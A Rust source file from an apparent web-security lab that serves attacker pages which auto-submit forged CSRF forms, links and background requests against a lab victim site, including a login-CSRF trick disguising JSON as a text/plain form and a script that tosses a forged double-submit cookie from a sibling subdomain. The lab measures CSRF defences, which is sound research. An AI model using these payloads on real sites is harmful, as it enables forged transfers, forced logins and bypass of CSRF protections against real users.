//! Requests that the attacker's pages make the visitor's browser send.

use std::sync::Arc;

use axum::{
    extract::{Query, State},
    http::StatusCode,
    response::{Html, IntoResponse, Response},
};
use lab_types::{CellId, CsrfDefence, RequestSource, Strategy, Threat, Vector};
use serde::Deserialize;
use serde_json::json;

use crate::{
    accounts::Credentials,
    plan,
    run::Run,
    scope::{EvidenceScope, Existing},
    state::Lab,
    targets::{DOUBLE_SUBMIT_COOKIE, FORGED_TOKEN, TOSSED_PATH, VictimEndpoints, csrf_endpoint},
};

const BACKGROUND_SCRIPT: &str = include_str!("../assets/attacks/unseen.js");

/// A page of the attacker that submits a form, or follows a link, as soon as it is loaded.
pub async fn navigation(State(lab): State<Arc<Lab>>, scope: EvidenceScope) -> Response {
    let EvidenceScope { run, cell, step } = scope;
    let victim = &lab.sites.victim;
    let host = victim.host().to_string();
    let query = format!("run={}&cell={cell}&at={}", run.id, step.unwrap_or_default());
    let markup = match cell {
        CellId::Storage { strategy, threat } => {
            let attacker = run.accounts.attacker(strategy);
            storage_form(threat, strategy, victim.as_str(), &query, &attacker)
        }
        CellId::Forgery {
            guard,
            source,
            vector,
        } => navigating(guard, vector, victim.as_str(), &query).map(|markup| {
            match toss(guard, source, &host) {
                Some(script) => format!("<script>{script}</script>{markup}"),
                None => markup,
            }
        }),
        CellId::Script { .. } | CellId::Race { .. } => None,
    };
    match markup {
        Some(markup) => page(
            "The attacker’s page sends the visitor to the victim’s site.",
            &markup,
        ),
        None => StatusCode::NOT_FOUND.into_response(),
    }
}

#[derive(Debug, Deserialize)]
pub struct BackgroundQuery {
    at: usize,
    source: RequestSource,
}

/// A page that sends everything that works in the background, and then returns to the runner.
pub async fn background(
    State(lab): State<Arc<Lab>>,
    Existing(run): Existing<Run>,
    Query(BackgroundQuery { at, source }): Query<BackgroundQuery>,
) -> Response {
    let victim = &lab.sites.victim;
    let requests = plan::background_requests().map(|(guard, vector)| {
        let cell = CellId::Forgery {
            guard,
            source,
            vector,
        };
        let query = format!("run={}&cell={cell}", run.id);
        json!({ "vector": vector, "address": format!("{victim}{}?{query}", csrf_endpoint(guard)) })
    });
    let orders = json!({
        "requests": requests.collect::<Vec<_>>(),
        "body": body(),
        "next": format!("{victim}/play?run={}&at={}", run.id, at + 1),
    });
    let toss = toss(CsrfDefence::DoubleSubmit, source, &victim.host().to_string()).unwrap_or_default();
    page(
        "The attacker’s page sends requests in the background.",
        &format!(
            "<script>{toss}\nconst orders = {orders};\n</script><script type=module>{BACKGROUND_SCRIPT}</script>"
        ),
    )
}

fn page(says: &str, markup: &str) -> Response {
    Html(format!(
        "<!doctype html><meta charset=utf-8><title>Keyturn lab: the attacker’s page</title><p>{says}</p>{markup}"
    ))
    .into_response()
}

/// The code of a cell's forgery, for readers of the evidence.
pub fn code(cell: CellId) -> Option<String> {
    let (victim, query) = ("https://victim.example", "…");
    match cell {
        CellId::Storage { strategy, threat } => {
            let attacker = Credentials {
                email: "mallory@…".into(),
                password: "…".into(),
            };
            storage_form(threat, strategy, victim, query, &attacker)
        }
        CellId::Forgery {
            guard,
            source,
            vector,
        } => {
            let sent = navigating(guard, vector, victim, query).unwrap_or_else(|| {
                let (endpoint, body) = (csrf_endpoint(guard), body());
                format!(
                    "// {}: {victim}{endpoint}, {body}\n{BACKGROUND_SCRIPT}",
                    vector.slug()
                )
            });
            let before = toss(guard, source, "victim.example");
            Some(before.map(|script| script + "\n").unwrap_or_default() + &sent)
        }
        CellId::Script { .. } | CellId::Race { .. } => None,
    }
}

/// A host below the victim's can set cookies for the victim's host as well. With a longer path than the genuine cookie
/// it is sent first, and most servers use the first cookie of a name.
fn toss(guard: CsrfDefence, source: RequestSource, victim: &str) -> Option<String> {
    (guard == CsrfDefence::DoubleSubmit && source == RequestSource::Sibling).then(|| {
        format!(
            "document.cookie = \"{DOUBLE_SUBMIT_COOKIE}={FORGED_TOKEN}; Domain={victim}; Path={TOSSED_PATH}; Secure; SameSite=None\";"
        )
    })
}

fn body() -> String {
    format!("amount=100&to=mallory&csrf={FORGED_TOKEN}")
}

fn field(name: &str, value: &str) -> String {
    format!("<input type=hidden name='{name}' value='{value}'>")
}

fn form(address: &str, enctype: &str, fields: &str) -> String {
    format!(
        "<form method=post enctype=\"{enctype}\" action=\"{address}\">{fields}</form>\
         <script>document.forms[0].submit()</script>"
    )
}

const URL_ENCODED: &str = "application/x-www-form-urlencoded";
const PLAIN: &str = "text/plain";

/// The markup that navigates the visitor; `None` for what happens in the background.
fn navigating(guard: CsrfDefence, vector: Vector, victim: &str, query: &str) -> Option<String> {
    let address = format!("{victim}{}?{query}", csrf_endpoint(guard));
    let fields = field("amount", "100") + &field("to", "mallory") + &field("csrf", FORGED_TOKEN);
    match vector {
        Vector::Form => Some(form(&address, URL_ENCODED, &fields)),
        Vector::TextForm => Some(form(&address, PLAIN, &fields)),
        Vector::MultipartForm => Some(form(&address, "multipart/form-data", &fields)),
        Vector::Link => Some(format!(
            "<a href=\"{address}\">A fine picture</a><script>document.links[0].click()</script>"
        )),
        Vector::Fetch | Vector::Beacon | Vector::Image => None,
    }
}

/// The form of a threat, in the format that this strategy's server might accept.
fn storage_form(
    threat: Threat,
    strategy: Strategy,
    victim: &str,
    query: &str,
    attacker: &Credentials,
) -> Option<String> {
    let endpoints = VictimEndpoints::of(strategy);
    let Credentials { email, password } = attacker;
    let (endpoint, fields, enctype) = match threat {
        Threat::CsrfChange => (
            endpoints.transfer,
            field("amount", "100") + &field("to", "mallory"),
            URL_ENCODED,
        ),
        Threat::CsrfLogout => (endpoints.logout, String::new(), URL_ENCODED),
        // A server that expects JSON may accept a form whose body looks like JSON.
        Threat::CsrfLogin if strategy == Strategy::Keyturn => {
            let name = format!(r#"{{"email":"{email}","password":"{password}","remember":true,"x":""#);
            (endpoints.login, field(&name, r#""}"#), PLAIN)
        }
        Threat::CsrfLogin => (
            endpoints.login,
            field("email", email) + &field("password", password),
            URL_ENCODED,
        ),
        _ => return None,
    };
    Some(form(&format!("{victim}{endpoint}?{query}"), enctype, &fields))
}

#[cfg(test)]
mod tests {
    use lab_types::Experiment;

    use super::*;

    #[test]
    fn only_a_sibling_tosses_cookies() {
        for cell in Experiment::Forgery.rows().concat() {
            let code = code(cell).expect("an attack");
            let tosses = matches!(
                cell,
                CellId::Forgery {
                    guard: CsrfDefence::DoubleSubmit,
                    source: RequestSource::Sibling,
                    ..
                }
            );
            assert_eq!(code.contains("document.cookie"), tosses, "{cell}");
        }
    }

    #[test]
    fn background_requests_need_no_navigation() {
        for vector in Vector::ALL {
            let seen = navigating(CsrfDefence::None, *vector, "https://victim.example", "").is_some();
            assert_ne!(seen, plan::BACKGROUND.contains(vector), "{}", vector.slug());
        }
    }
}
